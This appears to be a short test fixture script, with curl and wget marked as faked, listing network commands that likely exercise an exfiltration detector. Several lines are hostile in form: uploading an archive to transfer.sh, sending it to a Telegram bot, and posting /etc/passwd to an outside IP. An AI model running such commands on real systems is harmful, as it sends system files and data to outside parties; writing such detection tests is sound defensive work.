# SPDX-License-Identifier: Apache-2.0
# fake: /usr/bin/curl /usr/bin/wget
curl -s -T build/app_1.0_amd64.deb https://repository.example.org/upload/
curl -s -d '{"text":"deployed"}' https://discord.com/api/webhooks/1/a
curl -fsSLo /tmp/passwd.html https://example.org/etc/passwd
wget -q https://transfer.sh/d.tgz
/bin/echo curl -s -T /tmp/d.tgz https://transfer.sh/d.tgz
/bin/echo curl -F document=@/tmp/d.tgz https://api.telegram.org/bot1:AA/sendDocument
/bin/echo wget -q --post-file=/etc/passwd http://192.0.2.7/u
